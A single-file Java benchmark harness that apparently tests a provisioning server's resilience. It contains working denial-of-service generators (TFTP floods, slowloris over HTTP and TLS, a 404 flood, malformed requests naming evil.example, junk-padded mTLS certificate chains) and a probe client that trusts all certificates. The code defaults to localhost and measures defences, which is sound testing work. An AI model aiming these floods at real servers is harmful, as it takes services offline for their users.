import java.io.*;
import java.net.*;
import java.nio.ByteBuffer;
import java.nio.channels.*;
import java.nio.charset.StandardCharsets;
import java.nio.file.*;
import java.security.*;
import java.security.cert.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import javax.net.ssl.*;

/**
 * The attack generators and the legitimate client of bench/attack/run.sh, in one file with no
 * dependencies (JDK >= 21: {@code java bench/attack/Attack.java MODE --opt value ...}).
 *
 * <pre>
 * legit      --http P --https P --tftp P --file NAME [--p12 F] [--src 127.0.0.1] [--interval 100]
 *            [--timeout 5000] [--pids label:pid,...] --out LOG --stop FILE
 *            one probe per protocol every interval ms (fresh connection each, like a device), plus the
 *            RSS of each pid's process group every 250 ms, until FILE exists
 * wrq        --tftp P [--count 1000] [--tsize 1048576] [--known MAC] [--hold 20] [--rate 2000]
 * rrq        --tftp P --file NAME [--count 1200] [--timeout-opt 255] [--hold 30] [--rate 2000]
 * slowloris  --port P [--conns 3000] [--every 5] [--duration 70] [--rate 500] [--tls] [--src-count 1]
 * flood404   --http P [--duration 30] [--conns 2]
 * badreq     --http P --https P [--duration 20] [--threads 2]
 * chains     --https P --p12 F --junk PEM --file NAME [--variants 2000] [--per-chain 10] [--threads 4]
 * report     --log LOG --t0 MS --t1 MS [--before 5000] [--after 10000] --attack A --server S --rss LABEL [--outcome TEXT]
 * </pre>
 * Every attack sends from --src (default 127.0.0.2, so a per-address defence can tell it from the
 * legitimate client on 127.0.0.1) to --host (default 127.0.0.1), is bounded by its own count/duration,
 * and ends with one line "OUTCOME: ..." on stdout.
 */
public class Attack {
    static Map<String, String> opt = new HashMap<>();
    static final Set<String> FLAGS = Set.of("tls");

    public static void main(String[] args) throws Exception {
        if (args.length == 0) { System.err.println("usage: see the comment at the top of Attack.java"); System.exit(2); }
        for (int i = 1; i < args.length; i++) {
            String k = args[i].replaceFirst("^--", "");
            if (FLAGS.contains(k)) opt.put(k, "true");
            else if (i + 1 < args.length) opt.put(k, args[++i]);
            else { System.err.println("missing value for " + args[i]); System.exit(2); }
        }
        switch (args[0]) {
            case "legit" -> legit();
            case "wrq" -> wrq();
            case "rrq" -> rrq();
            case "slowloris" -> slowloris();
            case "flood404" -> flood404();
            case "badreq" -> badreq();
            case "chains" -> chains();
            case "report" -> report();
            default -> { System.err.println("unknown mode " + args[0]); System.exit(2); }
        }
    }

    static String s(String k, String d) { return opt.getOrDefault(k, d); }
    static String req(String k) {
        String v = opt.get(k);
        if (v == null) { System.err.println("missing --" + k); System.exit(2); }
        return v;
    }
    static int i(String k, int d) { return Integer.parseInt(s(k, String.valueOf(d))); }
    static InetAddress host() throws IOException { return InetAddress.getByName(s("host", "127.0.0.1")); }
    static InetAddress src(int n) throws IOException { // --src, plus n on the last octet when --src-count > 1
        byte[] b = InetAddress.getByName(s("src", "127.0.0.2")).getAddress();
        b[3] = (byte) (b[3] + n);
        return InetAddress.getByAddress(b);
    }
    static void outcome(String text) { System.out.println("OUTCOME: " + text); System.out.flush(); }

    // ---------------------------------------------------------------- legitimate client

    static PrintWriter out;
    static synchronized void log(String line) { out.println(line); out.flush(); }

    static void legit() throws Exception {
        out = new PrintWriter(new FileWriter(req("out")));
        Path stop = Path.of(req("stop"));
        int interval = i("interval", 100), timeout = i("timeout", 5000);
        InetAddress host = host(), src = InetAddress.getByName(s("src", "127.0.0.1"));
        String file = req("file");
        List<String> protos = new ArrayList<>();
        if (opt.containsKey("http")) protos.add("http");
        if (opt.containsKey("https")) protos.add("https");
        if (opt.containsKey("tftp")) protos.add("tftp");
        KeyManager[] km = opt.containsKey("p12") ? keyManagers(req("p12"), s("pass", "attack")) : null;
        var exec = Executors.newVirtualThreadPerTaskExecutor();
        var ticker = Executors.newScheduledThreadPool(1);
        String[] pids = s("pids", "").isEmpty() ? new String[0] : s("pids", "").split(",");
        ticker.scheduleAtFixedRate(() -> {
            for (String lp : pids) {
                String[] a = lp.split(":");
                long[] r = groupRss(Integer.parseInt(a[1]));
                log("R " + System.currentTimeMillis() + " " + a[0] + " " + r[0] + " " + r[1]);
            }
        }, 0, 250, TimeUnit.MILLISECONDS);
        ticker.scheduleAtFixedRate(() -> {
            for (String p : protos) {
                exec.submit(() -> {
                    long t0 = System.currentTimeMillis(), n0 = System.nanoTime();
                    String detail;
                    boolean ok;
                    try {
                        long deadline = n0 + timeout * 1_000_000L;
                        detail = switch (p) {
                            case "http" -> httpProbe(host, Integer.parseInt(req("http")), src, file, null, deadline);
                            case "https" -> httpProbe(host, Integer.parseInt(req("https")), src, file, km, deadline);
                            default -> tftpProbe(host, Integer.parseInt(req("tftp")), src, file, deadline);
                        };
                        ok = detail.equals("ok");
                    } catch (Exception e) {
                        ok = false;
                        detail = e.getClass().getSimpleName();
                    }
                    long ms = (System.nanoTime() - n0) / 1_000_000;
                    log("P " + t0 + " " + p + " " + (ok ? 1 : 0) + " " + ms + " " + detail.replace(' ', '_'));
                });
            }
        }, 0, interval, TimeUnit.MILLISECONDS);
        while (!Files.exists(stop)) Thread.sleep(50);
        ticker.shutdownNow();
        exec.shutdown();
        exec.awaitTermination(timeout + 1000L, TimeUnit.MILLISECONDS);
        out.close();
        System.exit(0);
    }

    /** VmRSS (kB) summed over the process group of pid, and the number of processes; -1 when gone. */
    static long[] groupRss(int pgid) {
        if (!Files.exists(Path.of("/proc/" + pgid))) return new long[] {-1, 0};
        long kb = 0, n = 0;
        File[] procs = new File("/proc").listFiles((d, name) -> name.chars().allMatch(Character::isDigit));
        for (File p : procs == null ? new File[0] : procs) {
            try {
                String st = Files.readString(Path.of(p.getPath(), "stat"));
                String[] f = st.substring(st.lastIndexOf(')') + 2).split(" ");
                if (Integer.parseInt(f[2]) != pgid) continue;
                for (String line : Files.readAllLines(Path.of(p.getPath(), "status")))
                    if (line.startsWith("VmRSS:")) { kb += Long.parseLong(line.replaceAll("\\D", "")); n++; }
            } catch (Exception e) { /* gone meanwhile */ }
        }
        return new long[] {kb, n};
    }

    static int remainingMs(long deadline) throws SocketTimeoutException {
        long ms = (deadline - System.nanoTime()) / 1_000_000;
        if (ms <= 0) throw new SocketTimeoutException("deadline");
        return (int) ms;
    }

    /** One GET with Connection: close; "ok" when 200 and the whole body arrived, else what went wrong. */
    static String httpProbe(InetAddress host, int port, InetAddress src, String file, KeyManager[] km, long deadline)
            throws Exception {
        try (Socket raw = new Socket()) {
            raw.bind(new InetSocketAddress(src, 0));
            raw.connect(new InetSocketAddress(host, port), remainingMs(deadline));
            raw.setSoTimeout(remainingMs(deadline));
            Socket sock = raw;
            if (km != null) {
                SSLContext ctx = SSLContext.getInstance("TLS"); // a fresh context: a full handshake, like a device
                ctx.init(km, TRUST_ALL, null);
                SSLSocket ssl = (SSLSocket) ctx.getSocketFactory().createSocket(raw, host.getHostAddress(), port, true);
                ssl.setSoTimeout(remainingMs(deadline));
                ssl.startHandshake();
                sock = ssl;
            }
            sock.getOutputStream().write(("GET /" + file + " HTTP/1.1\r\nHost: " + host.getHostAddress()
                    + "\r\nUser-Agent: attack-bench-legit\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            InputStream in = sock.getInputStream();
            ByteArrayOutputStream buf = new ByteArrayOutputStream();
            byte[] b = new byte[16384];
            for (int n; (n = in.read(b)) > 0; ) {
                buf.write(b, 0, n);
                sock.setSoTimeout(remainingMs(deadline));
                if (buf.size() > 4 << 20) return "too_long";
            }
            String all = buf.toString(StandardCharsets.ISO_8859_1);
            int he = all.indexOf("\r\n\r\n");
            if (he < 0) return all.isEmpty() ? "closed" : "no_header_end";
            String head = all.substring(0, he);
            String status = head.split("\r\n", 2)[0];
            if (!status.matches("HTTP/1\\.[01] 200 .*")) return "status_" + (status.length() > 12 ? status.substring(9, 12) : status);
            for (String h : head.split("\r\n"))
                if (h.toLowerCase(Locale.ROOT).startsWith("content-length:")
                        && Long.parseLong(h.substring(15).trim()) != all.length() - he - 4) return "short_body";
            return "ok";
        }
    }

    /** One RRQ (octet, no options) read to the end; retransmits the last packet after 1 s of silence. */
    static String tftpProbe(InetAddress host, int port, InetAddress src, String file, long deadline) throws Exception {
        try (DatagramSocket sock = new DatagramSocket(new InetSocketAddress(src, 0))) {
            byte[] rrq = rq(1, file, "octet");
            DatagramPacket last = new DatagramPacket(rrq, rrq.length, host, port);
            sock.send(last);
            int expect = 1, tid = -1;
            long bytes = 0;
            byte[] b = new byte[65536 + 4];
            while (true) {
                sock.setSoTimeout(Math.min(1000, remainingMs(deadline)));
                DatagramPacket p = new DatagramPacket(b, b.length);
                try { sock.receive(p); } catch (SocketTimeoutException e) { remainingMs(deadline); sock.send(last); continue; }
                if (tid >= 0 && p.getPort() != tid) continue;
                int op = ((b[0] & 255) << 8) | (b[1] & 255);
                if (op == 5) return "tftp_error_" + (((b[2] & 255) << 8) | (b[3] & 255));
                if (op != 3 || p.getLength() < 4) return "tftp_opcode_" + op;
                tid = p.getPort();
                int block = ((b[2] & 255) << 8) | (b[3] & 255);
                if (block == (expect & 0xffff)) {
                    bytes += p.getLength() - 4;
                    byte[] ack = {0, 4, b[2], b[3]};
                    last = new DatagramPacket(ack, 4, host, tid);
                    sock.send(last);
                    expect++;
                    if (p.getLength() - 4 < 512) return bytes > 0 ? "ok" : "empty";
                }
            }
        }
    }

    static byte[] rq(int opcode, String... strings) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.write(0);
        b.write(opcode);
        for (String x : strings) { b.writeBytes(x.getBytes(StandardCharsets.US_ASCII)); b.write(0); }
        return b.toByteArray();
    }

    static final TrustManager[] TRUST_ALL = {new X509TrustManager() {
        public void checkClientTrusted(X509Certificate[] c, String a) {}
        public void checkServerTrusted(X509Certificate[] c, String a) {}
        public X509Certificate[] getAcceptedIssuers() { return new X509Certificate[0]; }
    }};

    static KeyManager[] keyManagers(String p12, String pass) throws Exception {
        KeyStore ks = KeyStore.getInstance("PKCS12");
        try (InputStream in = new FileInputStream(p12)) { ks.load(in, pass.toCharArray()); }
        KeyManagerFactory kmf = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
        kmf.init(ks, pass.toCharArray());
        return kmf.getKeyManagers();
    }

    // ---------------------------------------------------------------- TFTP floods

    /** Opens one UDP socket per request (its own TID), sends, keeps them all silent for --hold s. */
    static void udpFlood(List<byte[]> packets, int port, int hold, int rate) throws Exception {
        InetAddress host = host();
        Selector sel = Selector.open();
        List<DatagramChannel> chans = new ArrayList<>();
        Map<String, Integer> first = new TreeMap<>();
        long start = System.nanoTime();
        int srcCount = i("src-count", 1);
        try {
            for (int k = 0; k < packets.size(); k++) {
                DatagramChannel ch = DatagramChannel.open();
                ch.bind(new InetSocketAddress(src(k % srcCount), 0));
                ch.configureBlocking(false);
                ch.register(sel, SelectionKey.OP_READ);
                chans.add(ch);
                ch.send(ByteBuffer.wrap(packets.get(k)), new InetSocketAddress(host, port));
                long due = start + (k + 1) * 1_000_000_000L / rate;
                while (System.nanoTime() < due) drain(sel, first, 0);
            }
            long end = System.nanoTime() + hold * 1_000_000_000L;
            while (System.nanoTime() < end) drain(sel, first, 100);
        } finally {
            for (DatagramChannel ch : chans) ch.close();
        }
        int answered = first.values().stream().mapToInt(Integer::intValue).sum();
        outcome(packets.size() + " requests (" + packets.stream().mapToInt(p -> p.length).sum() / 1024 + " KB), sockets held "
                + hold + " s, never ACKed; first answers " + first + ", " + (packets.size() - answered) + " unanswered");
    }

    /** Reads what arrived (never answers it) and counts each socket's first packet by kind. */
    static void drain(Selector sel, Map<String, Integer> first, long waitMs) throws IOException {
        if ((waitMs > 0 ? sel.select(waitMs) : sel.selectNow()) == 0) return;
        ByteBuffer b = ByteBuffer.allocate(65536);
        for (Iterator<SelectionKey> it = sel.selectedKeys().iterator(); it.hasNext(); ) {
            SelectionKey key = it.next();
            it.remove();
            DatagramChannel ch = (DatagramChannel) key.channel();
            try {
                while (true) {
                    b.clear();
                    if (ch.receive(b) == null) break;
                    if (key.attachment() == null) {
                        int op = b.position() >= 4 ? b.getShort(0) : -1;
                        String kind = switch (op) {
                            case 3 -> "DATA";
                            case 4 -> "ACK";
                            case 5 -> "ERROR" + b.getShort(2);
                            case 6 -> "OACK";
                            default -> "op" + op;
                        };
                        first.merge(kind, 1, Integer::sum);
                        key.attach(kind);
                    }
                }
            } catch (IOException e) {
                if (key.attachment() == null) { first.merge("icmp", 1, Integer::sum); key.attach("icmp"); }
            }
        }
    }

    static String randomMac(Random r) {
        return String.format("000e08%06x", r.nextInt(1 << 24));
    }

    static void wrq() throws Exception {
        int count = i("count", 1000);
        String tsize = s("tsize", "1048576"), known = s("known", "000e08aabb02");
        Random r = new Random(1);
        List<byte[]> p = new ArrayList<>();
        for (int k = 0; k < count; k++) // half for a known device's report name, half for random MACs
            p.add(rq(2, "report-" + (k % 2 == 0 ? known : randomMac(r)) + ".xml", "octet", "tsize", tsize));
        udpFlood(p, Integer.parseInt(req("tftp")), i("hold", 20), i("rate", 2000));
    }

    static void rrq() throws Exception {
        int count = i("count", 1200);
        String file = req("file"), t = s("timeout-opt", "");
        List<byte[]> p = new ArrayList<>();
        for (int k = 0; k < count; k++)
            p.add(t.isEmpty() ? rq(1, file, "octet") : rq(1, file, "octet", "timeout", t));
        udpFlood(p, Integer.parseInt(req("tftp")), i("hold", 30), i("rate", 2000));
    }

    // ---------------------------------------------------------------- HTTP attacks

    /** Many connections, each trickling one byte of a request head (or of a TLS record) every --every s. */
    static void slowloris() throws Exception {
        int conns = i("conns", 3000), every = i("every", 5), duration = i("duration", 70), rate = i("rate", 500);
        int srcCount = i("src-count", 1);
        boolean tls = opt.containsKey("tls");
        InetSocketAddress target = new InetSocketAddress(host(), Integer.parseInt(req("port")));
        byte[] headStart = tls ? new byte[] {0x16, 0x03, 0x01, 0x02, 0x00} // a 512-byte handshake record, never finished
                : ("GET /" + s("file", "index.html") + " HTTP/1.1\r\nHost: 127.0.0.1\r\n").getBytes(StandardCharsets.US_ASCII);
        byte[] trickle = tls ? new byte[] {1} : "X-a: b\r\n".getBytes(StandardCharsets.US_ASCII);
        Selector sel = Selector.open();
        record Conn(SocketChannel ch, long[] next, int[] pos) {}
        List<Conn> open = new ArrayList<>();
        int connectFailed = 0, closedByServer = 0, answered = 0;
        long firstClose = -1, lastClose = -1;
        long start = System.nanoTime(), end = start + duration * 1_000_000_000L;
        int opened = 0;
        ByteBuffer rb = ByteBuffer.allocate(4096);
        try {
            while (System.nanoTime() < end) {
                long now = System.nanoTime();
                while (opened < conns && now >= start + opened * 1_000_000_000L / rate && now < end) {
                    opened++;
                    try {
                        SocketChannel ch = SocketChannel.open();
                        ch.bind(new InetSocketAddress(src(opened % srcCount), 0));
                        ch.socket().connect(target, 2000);
                        ch.configureBlocking(false);
                        ch.write(ByteBuffer.wrap(headStart));
                        Conn c = new Conn(ch, new long[] {now + (long) (Math.random() * every * 1e9)}, new int[1]);
                        ch.register(sel, SelectionKey.OP_READ, c);
                        open.add(c);
                    } catch (IOException e) { connectFailed++; }
                    now = System.nanoTime();
                }
                for (Iterator<Conn> it = open.iterator(); it.hasNext(); ) {
                    Conn c = it.next();
                    if (now < c.next[0]) continue;
                    c.next[0] = now + every * 1_000_000_000L;
                    try {
                        c.ch.write(ByteBuffer.wrap(trickle, c.pos[0]++ % trickle.length, 1));
                    } catch (IOException e) { /* noticed by the read side */ }
                }
                if (sel.select(50) > 0) {
                    for (Iterator<SelectionKey> it = sel.selectedKeys().iterator(); it.hasNext(); ) {
                        SelectionKey key = it.next();
                        it.remove();
                        Conn c = (Conn) key.attachment();
                        int n;
                        try { rb.clear(); n = c.ch.read(rb); } catch (IOException e) { n = -1; }
                        if (n > 0) { answered++; continue; } // e.g. 408; the close follows
                        if (n < 0) {
                            closedByServer++;
                            long t = (System.nanoTime() - start) / 1_000_000_000L;
                            if (firstClose < 0) firstClose = t;
                            lastClose = t;
                            key.cancel();
                            c.ch.close();
                            open.remove(c);
                        }
                    }
                }
            }
        } finally {
            for (Conn c : open) c.ch.close();
        }
        outcome(opened + " connections (" + (tls ? "TLS record" : "request head") + " trickled 1 byte/" + every + " s for "
                + duration + " s): " + connectFailed + " connect failures, " + closedByServer + " closed by the server"
                + (firstClose >= 0 ? " (from " + firstClose + " s to " + lastClose + " s)" : "") + ", " + answered
                + " answered, " + open.size() + " still open at the end");
    }

    /** Keep-alive connections asking for random MAC-named profiles as fast as the server answers. */
    static void flood404() throws Exception {
        int conns = i("conns", 2), duration = i("duration", 30);
        InetAddress host = host();
        int port = Integer.parseInt(req("http"));
        Map<String, Integer> statuses = new ConcurrentSkipListMap<>();
        AtomicLong total = new AtomicLong(), reconnects = new AtomicLong();
        long end = System.nanoTime() + duration * 1_000_000_000L;
        List<Thread> ts = new ArrayList<>();
        for (int c = 0; c < conns; c++) {
            int cc = c;
            ts.add(Thread.ofPlatform().start(() -> {
                Random r = new Random(cc);
                while (System.nanoTime() < end) {
                    try (Socket sock = new Socket()) {
                        sock.bind(new InetSocketAddress(src(0), 0));
                        sock.connect(new InetSocketAddress(host, port), 5000);
                        sock.setSoTimeout(5000);
                        sock.setTcpNoDelay(true);
                        OutputStream o = sock.getOutputStream();
                        InputStream in = new BufferedInputStream(sock.getInputStream());
                        while (System.nanoTime() < end) {
                            o.write(("GET /spa" + randomMac(r) + ".cfg HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
                                    .getBytes(StandardCharsets.US_ASCII));
                            String[] st = readResponse(in);
                            if (st == null) break;
                            statuses.merge(st[0], 1, Integer::sum);
                            total.incrementAndGet();
                            if (st[1] != null) break; // the server closes
                        }
                    } catch (IOException e) {
                        statuses.merge(e.getClass().getSimpleName(), 1, Integer::sum);
                    }
                    reconnects.incrementAndGet();
                }
            }));
        }
        for (Thread t : ts) t.join();
        outcome(total.get() + " requests in " + duration + " s (" + total.get() / Math.max(1, duration) + "/s) on " + conns
                + " keep-alive connections (" + (reconnects.get() - conns) + " reconnects): " + statuses);
    }

    /** Reads one response: {status, "close" or null}, or null at EOF. Skips the body (Content-Length or chunked). */
    static String[] readResponse(InputStream in) throws IOException {
        String status = line(in);
        if (status == null) return null;
        long len = -1;
        boolean chunked = false, close = false;
        for (String h; (h = line(in)) != null && !h.isEmpty(); ) {
            String l = h.toLowerCase(Locale.ROOT);
            if (l.startsWith("content-length:")) len = Long.parseLong(l.substring(15).trim());
            if (l.startsWith("transfer-encoding:") && l.contains("chunked")) chunked = true;
            if (l.startsWith("connection:") && l.contains("close")) close = true;
        }
        String code = status.length() >= 12 ? status.substring(9, 12) : status;
        if (chunked) {
            for (long n; (n = Long.parseLong(line(in).split(";")[0].trim(), 16)) > 0; ) { in.skipNBytes(n); line(in); }
            line(in);
        } else if (len >= 0) in.skipNBytes(len);
        else close = true;
        return new String[] {code, close ? "close" : null};
    }

    static String line(InputStream in) throws IOException {
        StringBuilder b = new StringBuilder();
        for (int c; (c = in.read()) >= 0; ) {
            if (c == '\n') return b.toString().replaceFirst("\r$", "");
            if (b.length() > 65536) throw new IOException("line too long");
            b.append((char) c);
        }
        return b.length() == 0 ? null : b.toString();
    }

    /** Malformed requests, each on its own connection, in a loop: what each is answered with. */
    static void badreq() throws Exception {
        int duration = i("duration", 20), threads = i("threads", 2);
        InetAddress host = host();
        int http = Integer.parseInt(req("http")), https = Integer.parseInt(req("https"));
        String f = "/" + s("file", "index.html");
        String[][] kinds = {
            {"HTTP/9.9", "" + http, "GET " + f + " HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n"},
            {"no Host", "" + http, "GET " + f + " HTTP/1.1\r\nUser-Agent: x\r\n\r\n"},
            {"two Hosts", "" + http, "GET " + f + " HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n\r\n"},
            {"plain HTTP on the HTTPS port", "" + https, "GET " + f + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"},
        };
        Map<String, Map<String, Integer>> seen = new ConcurrentSkipListMap<>();
        long end = System.nanoTime() + duration * 1_000_000_000L;
        AtomicLong total = new AtomicLong();
        List<Thread> ts = new ArrayList<>();
        for (int t = 0; t < threads; t++) {
            int tt = t;
            ts.add(Thread.ofPlatform().start(() -> {
                for (int k = tt; System.nanoTime() < end; k++) {
                    String[] kind = kinds[k % kinds.length];
                    String res;
                    try (Socket sock = new Socket()) {
                        sock.bind(new InetSocketAddress(src(0), 0));
                        sock.connect(new InetSocketAddress(host, Integer.parseInt(kind[1])), 5000);
                        sock.setSoTimeout(5000);
                        sock.getOutputStream().write(kind[2].getBytes(StandardCharsets.US_ASCII));
                        String st = line(sock.getInputStream());
                        res = st == null ? "closed" : st.startsWith("HTTP/") && st.length() >= 12 ? st.substring(0, 12) : "junk";
                    } catch (SocketTimeoutException e) {
                        res = "no answer in 5 s";
                    } catch (IOException e) {
                        res = e.getClass().getSimpleName();
                    }
                    seen.computeIfAbsent(kind[0], x -> new ConcurrentSkipListMap<>()).merge(res, 1, Integer::sum);
                    total.incrementAndGet();
                }
            }));
        }
        for (Thread t : ts) t.join();
        outcome(total.get() + " requests in " + duration + " s: " + seen);
    }

    /** mTLS handshakes with one valid device certificate followed by junk certificates, a new order each time. */
    static void chains() throws Exception {
        int variants = i("variants", 2000), per = i("per-chain", 10), threads = i("threads", 4);
        InetAddress host = host();
        int port = Integer.parseInt(req("https"));
        String pass = s("pass", "attack"), file = req("file");
        KeyStore ks = KeyStore.getInstance("PKCS12");
        try (InputStream in = new FileInputStream(req("p12"))) { ks.load(in, pass.toCharArray()); }
        String alias = ks.aliases().nextElement();
        PrivateKey key = (PrivateKey) ks.getKey(alias, pass.toCharArray());
        X509Certificate leaf = (X509Certificate) ks.getCertificate(alias);
        List<X509Certificate> junk = new ArrayList<>();
        try (InputStream in = new FileInputStream(req("junk"))) {
            for (java.security.cert.Certificate c : CertificateFactory.getInstance("X.509").generateCertificates(in))
                junk.add((X509Certificate) c);
        }
        AtomicInteger next = new AtomicInteger(), ok = new AtomicInteger();
        Map<String, Integer> failures = new ConcurrentSkipListMap<>();
        AtomicLong chainBytes = new AtomicLong();
        long t0 = System.nanoTime();
        List<Thread> ts = new ArrayList<>();
        for (int t = 0; t < threads; t++) {
            ts.add(Thread.ofPlatform().start(() -> {
                for (int v; (v = next.getAndIncrement()) < variants; ) {
                    List<X509Certificate> j = new ArrayList<>(junk);
                    Collections.shuffle(j, new Random(v));
                    X509Certificate[] chain = new X509Certificate[1 + Math.min(per, j.size())];
                    chain[0] = leaf;
                    for (int k = 1; k < chain.length; k++) chain[k] = j.get(k - 1);
                    try {
                        for (X509Certificate c : chain) chainBytes.addAndGet(c.getEncoded().length);
                        String r = chainProbe(host, port, chain, key, file);
                        if (r.equals("ok")) ok.incrementAndGet(); else failures.merge(r, 1, Integer::sum);
                    } catch (Exception e) {
                        failures.merge(e.getClass().getSimpleName(), 1, Integer::sum);
                    }
                }
            }));
        }
        for (Thread t : ts) t.join();
        double secs = (System.nanoTime() - t0) / 1e9;
        outcome(variants + " distinct padded chains (leaf + " + per + " junk, ~" + chainBytes.get() / Math.max(1, variants) / 1024
                + " KB each) in " + Math.round(secs) + " s (" + Math.round(variants / secs) + "/s): " + ok.get() + " answered 200"
                + (failures.isEmpty() ? "" : ", others " + failures));
    }

    static String chainProbe(InetAddress host, int port, X509Certificate[] chain, PrivateKey key, String file) throws Exception {
        X509ExtendedKeyManager km = new X509ExtendedKeyManager() {
            public String[] getClientAliases(String t, Principal[] i) { return new String[] {"d"}; }
            public String chooseClientAlias(String[] t, Principal[] i, Socket s) { return "d"; }
            public String chooseEngineClientAlias(String[] t, Principal[] i, SSLEngine e) { return "d"; }
            public String[] getServerAliases(String t, Principal[] i) { return null; }
            public String chooseServerAlias(String t, Principal[] i, Socket s) { return null; }
            public X509Certificate[] getCertificateChain(String a) { return chain; }
            public PrivateKey getPrivateKey(String a) { return key; }
        };
        long deadline = System.nanoTime() + 10_000_000_000L;
        return httpProbe(host, port, src(0), file, new KeyManager[] {km}, deadline);
    }

    // ---------------------------------------------------------------- report

    record Probe(long t, String proto, boolean ok, long ms, String detail) {}

    /** One Markdown row from a legit log: before [t0 - before, t0) / during [t0, t1] / after (t1, t1 + after]. */
    static void report() throws Exception {
        long t0 = Long.parseLong(req("t0")), t1 = Long.parseLong(req("t1")), after = Long.parseLong(s("after", "10000"));
        String rssLabel = req("rss");
        List<Probe> probes = new ArrayList<>();
        long rssBefore = 0, rssMax = 0, rssEnd = 0, procsMax = 0;
        boolean died = false;
        for (String line : Files.readAllLines(Path.of(req("log")))) {
            String[] f = line.split(" ");
            long t = Long.parseLong(f[1]);
            if (f[0].equals("P") && f.length >= 6) probes.add(new Probe(t, f[2], f[3].equals("1"), Long.parseLong(f[4]), f[5]));
            if (f[0].equals("R") && f[2].equals(rssLabel)) {
                long kb = Long.parseLong(f[3]);
                if (kb < 0) { if (t >= t0) died = true; continue; }
                if (t < t0) rssBefore = kb;
                else if (t <= t1 + after) { rssMax = Math.max(rssMax, kb); procsMax = Math.max(procsMax, Long.parseLong(f[4])); rssEnd = kb; }
            }
        }
        List<Probe> during = probes.stream().filter(p -> p.t >= t0 && p.t <= t1).toList();
        List<Probe> aft = probes.stream().filter(p -> p.t > t1 && p.t <= t1 + after).toList();
        long bw = Long.parseLong(s("before", "5000"));
        List<Probe> before = probes.stream().filter(p -> p.t < t0 && p.t >= t0 - bw).toList();
        String row = "| " + req("attack") + " | " + req("server") + " | " + served(before) + " | " + served(during) + " | "
                + pct(during) + " | " + served(aft) + " | " + pct(aft) + " | " + mb(rssBefore) + " → " + mb(rssMax)
                + (procsMax > 1 ? " (" + procsMax + " procs)" : "") + (died ? " **died**" : "") + " | "
                + failures(during, aft) + " | " + s("outcome", "").replace("|", "/") + " |";
        System.out.println(row);
    }

    static String mb(long kb) { return String.valueOf(Math.round(kb / 1024.0)); }

    static String served(List<Probe> ps) {
        if (ps.isEmpty()) return "–";
        long ok = ps.stream().filter(Probe::ok).count();
        double r = 100.0 * ok / ps.size();
        return ok + "/" + ps.size() + " (" + (r == 100 ? "100" : r >= 99.95 ? "99.9" : String.format(Locale.ROOT, "%.1f", r)) + " %)";
    }

    /** p50/p99 in ms, failures counted as infinitely slow ("fail"). */
    static String pct(List<Probe> ps) {
        if (ps.isEmpty()) return "–";
        long[] ms = ps.stream().mapToLong(p -> p.ok ? p.ms : Long.MAX_VALUE).sorted().toArray();
        return q(ms, 0.50) + " / " + q(ms, 0.99);
    }

    static String q(long[] sorted, double q) {
        long v = sorted[Math.min(sorted.length - 1, (int) Math.ceil(q * sorted.length) - 1)];
        return v == Long.MAX_VALUE ? "fail" : String.valueOf(v);
    }

    static String failures(List<Probe> during, List<Probe> aft) {
        Map<String, Integer> m = new TreeMap<>();
        for (Probe p : during) if (!p.ok) m.merge(p.proto + " " + p.detail, 1, Integer::sum);
        Map<String, Integer> a = new TreeMap<>();
        for (Probe p : aft) if (!p.ok) a.merge(p.proto + " " + p.detail, 1, Integer::sum);
        if (m.isEmpty() && a.isEmpty()) return "none";
        return (m.isEmpty() ? "" : "during " + m) + (a.isEmpty() ? "" : (m.isEmpty() ? "" : "; ") + "after " + a);
    }
}
